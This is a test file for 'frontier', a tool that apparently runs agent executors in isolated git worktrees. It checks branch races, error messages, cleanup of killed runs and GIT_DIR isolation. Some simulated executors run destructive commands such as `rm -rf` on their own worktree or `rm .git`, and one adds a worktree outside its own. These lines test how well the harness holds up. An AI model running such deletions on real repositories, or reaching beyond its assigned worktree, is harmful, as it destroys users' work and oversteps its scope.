  it("started at the same moment, one takes the branch and the other is refused: never both", async () => {
    for (let i = 0; i < 3; i++) {
      const repo = repoWith({
        "a/tickets/frontier.yml": "isolation: worktree\n",
        "a/tickets/x.md": ticket({ write_scope: ["a/out/**"] }),
        "b/tickets/frontier.yml": "isolation: worktree\n",
        "b/tickets/y.md": ticket({ write_scope: ["b/out/**"] }),
      });
      // the branch already at HEAD (an earlier run's): taking it moves nothing
      git(repo.root, "branch", "frontier/tickets");
      const work = "mkdir -p out && echo $FRONTIER_TICKET > out/f; echo done";
      const ran = await Promise.all(
        ["a", "b"].map((d) => runHere(join(repo.root, d, "tickets"), work)),
      );
      expect(ran.map((r) => r.code).sort(), ran.map((r) => r.stderr).join("\n")).toEqual([0, 2]);
      expect(commitsOf(repo.root, `${repo.start}..frontier/tickets`)).toHaveLength(1);
    }
  });
});

describe("messages that say what happened", () => {
  // git keeps no branch beside one above it (frontier) or below it (frontier/<run>/old)
  it.each([
    ["frontier", "frontier/named", "frontier/…"],
    ["frontier/named/old", "frontier/named", "frontier/named"],
  ])(
    "a branch %s in the way of the run's branch is named, with the fix",
    async (inTheWay, branch, beside) => {
      const repo = repoWith({
        "tickets/frontier.yml": "run: named\nisolation: worktree\n",
        "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      });
      git(repo.root, "branch", inTheWay);
      const ran = await runHere(repo.dir, "echo done");
      expect(ran.code).toBe(2);
      expect(ran.stderr).toContain(
        `error: the run's branch ${branch} cannot be made: a branch named ${inTheWay} exists, and git keeps no branch ${beside} beside it — rename that branch (git branch -m ${inTheWay} NEW-NAME)`,
      );
      expect(ran.stderr).not.toContain("cannot lock ref");
    },
  );

  it("a worktree an executor adds beside its own is named as none of the run's by the next run and by reset, its files kept", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: sibling\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const made = await runHere(
      repo.dir,
      "git worktree add -q --detach ../mine && echo kept > ../mine/notes.txt && mkdir -p app && echo a > app/a.js && echo done",
    );
    expect(made.code, made.stderr).toBe(0);
    const listed = git(repo.root, "worktree", "list", "--porcelain");
    const path = /^worktree (.*\/mine)$/m.exec(listed)?.[1] as string;
    expect(path).toBeDefined();
    const again = await runHere(repo.dir, "echo done");
    const named = `${path} is a worktree the run did not make (an executor's git worktree add?): its files stay there`;
    expect(again.stderr).toContain(named);
    expect(again.stderr).not.toContain("attempt 0");
    const reset = await resetHere(repo.dir);
    expect(reset).toContain(named);
    expect(readFileSync(join(path, "notes.txt"), "utf8")).toBe("kept\n");
  });

  it("an executor that removes its own worktree fails saying so, not that git is missing", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: gone\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const ran = await runHere(repo.dir, 'here="$(pwd)"; cd / && rm -rf "$here"; echo done');
    expect(ran.code).toBe(1);
    const api = attemptOf(repo.dir, "api", 1);
    expect(api.outcome).toBe("failed");
    expect(api.reason).toMatch(
      /^its changes could not be collected: \S+ was removed; nothing was integrated — /,
    );
    expect(ran.stderr).not.toContain("not installed");
  });

  it("an executor that removes only its worktree's .git: its files stay where they are, named once by each later run and by reset", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: nogit\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const ran = await runHere(
      repo.dir,
      "mkdir -p app && echo work > app/a.js && rm .git; echo done",
    );
    expect(ran.code).toBe(1);
    const reason = attemptOf(repo.dir, "api", 1).reason ?? "";
    expect(reason).toMatch(/^its changes could not be collected: \S+ is no longer a git work tree/);
    const path = /nothing was integrated, its files are kept in (\S+) — /.exec(reason)?.[1];
    expect(readFileSync(join(path!, "app", "a.js"), "utf8")).toBe("work\n");
    const again = await runHere(repo.dir, "echo done");
    expect(again.stderr).toContain(`changes could not be collected: its files stay in ${path}`);
    expect(again.stderr).not.toContain("is no worktree");
    const reset = await resetHere(repo.dir);
    expect(reset.split(path!).length - 1).toBe(1);
    expect(reset).toContain(`${path} holds files but is no worktree of the run`);
    expect(readFileSync(join(path!, "app", "a.js"), "utf8")).toBe("work\n");
    // the count starts again after a reset: the next attempt 1 moves them aside, never removes them
    expect((await runHere(repo.dir, "mkdir -p app && echo new > app/a.js; echo done")).code).toBe(
      0,
    );
    const aside = readdirSync(dirname(path!)).filter((n) => /^api@1\.\d+$/.test(n));
    expect(aside).toHaveLength(1);
    expect(readFileSync(join(dirname(path!), aside[0]!, "app", "a.js"), "utf8")).toBe("work\n");
  });
});

describe("debris a kill leaves is tidied", () => {
  it("git's record of a worktree left locked 'initializing' and its empty directory go with the next run and with reset", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: debris\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const real = realpathSync(repo.dir);
    const home = join(
      realpathSync(join(repo.root, ".git")),
      "frontier",
      "worktrees",
      `tickets-${createHash("sha256").update(real).digest("hex").slice(0, 10)}`,
    );
    /**
     * What `git worktree add` leaves when killed after it locked its record: the record,
     * locked "initializing", with (`withGitdir`) or without the path of its worktree, and
     * the worktree's directory, empty.
     */
    const debris = (name: string, withGitdir = true) => {
      const admin = join(repo.root, ".git", "worktrees", name);
      mkdirSync(admin, { recursive: true });
      writeFileSync(join(admin, "locked"), "initializing\n");
      if (withGitdir) writeFileSync(join(admin, "gitdir"), `${join(home, name)}/.git\n`);
      else utimesSync(join(admin, "locked"), new Date(0), new Date(0));
      mkdirSync(join(home, name), { recursive: true });
    };
    debris("old@1");
    // a killed run's scratch in the repository's git directory (its pid long gone)
    const scratch = join(repo.root, ".git", "frontier", "scratch", "guard-999999999-x");
    mkdirSync(scratch, { recursive: true });
    expect(readdirSync(join(repo.root, ".git", "worktrees"))).toContain("old@1");
    const ran = await runHere(repo.dir, "mkdir -p app && echo a > app/a.js; echo done");
    expect(ran.code).toBe(0);
    expect(existsSync(join(repo.root, ".git", "worktrees", "old@1"))).toBe(false);
    expect(existsSync(join(home, "old@1"))).toBe(false);
    expect(existsSync(scratch)).toBe(false);
    expect(git(repo.root, "worktree", "list", "--porcelain")).not.toContain("locked");

    debris("old@2", false);
    await resetHere(repo.dir);
    expect(existsSync(join(repo.root, ".git", "worktrees", "old@2"))).toBe(false);
    expect(existsSync(join(home, "old@2"))).toBe(false);
  });
});

describe("a newcomer's executor and branch", () => {
  it("a run started with GIT_DIR set (from a git hook, say): an agent's plain git add and commit stay in its worktree, never on the user's branch or index", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: hooked\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    process.env.GIT_DIR = join(repo.root, ".git");
    process.env.GIT_INDEX_FILE = join(repo.root, ".git", "index");
    const exec =
      "mkdir -p app && echo a > app/a.js && git add -A && git commit -qm mine; echo done";
    const ran = await runHere(repo.dir, exec).finally(() => {
      delete process.env.GIT_DIR;
      delete process.env.GIT_INDEX_FILE;
    });
    expect(ran.code).toBe(0);
    expect(git(repo.root, "rev-parse", "main")).toBe(repo.start);
    expect(git(repo.root, "diff", "--cached", "--name-only")).toBe("");
    expect(ran.stderr).toContain("your working tree and branch were not touched");
    expect(commitsOf(repo.root, `${repo.start}..frontier/hooked`).map((c) => c.paths)).toEqual([
      ["app/a.js"],
    ]);
  });

  it("a relative script path that is not committed runs from the user's directory", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: rel\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    mkdirSync(join(repo.dir, "_bin"));
    writeFileSync(
      join(repo.dir, "_bin", "agent.sh"),
      "mkdir -p app && echo a > app/a.js\necho done\n",
    );
    const ran = await runHere(repo.dir, "sh tickets/_bin/agent.sh");
    expect(ran.stderr).not.toContain("cannot open");
    expect(ran.code).toBe(0);
    expect(git(repo.root, "show", "frontier/rel:app/a.js")).toBe("a");
  });

  it("only the program's own path is resolved", () => {
    const cwd = realpathSync(repoWith({ "tools/agent.js": "", "x.sh": "", "README.md": "" }).root);
    expect(userPaths("sh x.sh", cwd)).toBe(`sh ${join(cwd, "x.sh")}`);
    expect(userPaths("node tools/agent.js --fast", cwd)).toBe(
      `node ${join(cwd, "tools/agent.js")} --fast`,
    );
    expect(userPaths("./x.sh a", cwd)).toBe(`${join(cwd, "x.sh")} a`);
    // a bare name is the shell's to look up; arguments and redirections stay as typed
    expect(userPaths("x.sh", cwd)).toBe("x.sh");
    expect(userPaths("echo hi >> README.md", cwd)).toBe("echo hi >> README.md");
    expect(userPaths("cat tools/agent.js", cwd)).toBe("cat tools/agent.js");
  });

  it("reset knows when the run's branch is already merged", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: merged\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      ".gitignore": "tickets/.frontier/\n",
    });
    expect((await runHere(repo.dir, "mkdir -p app && echo a > app/a.js; echo done")).code).toBe(0);
    git(repo.root, "stash", "-q");
    git(repo.root, "merge", "-q", "frontier/merged");
    git(repo.root, "stash", "pop", "-q");
    const text = await resetHere(repo.dir);
    expect(text).toContain("kept the branch frontier/merged (1 commit past");
    expect(text).toContain("HEAD holds all of it (merged)");
    expect(text).not.toContain("merge it (git merge");
  });
});
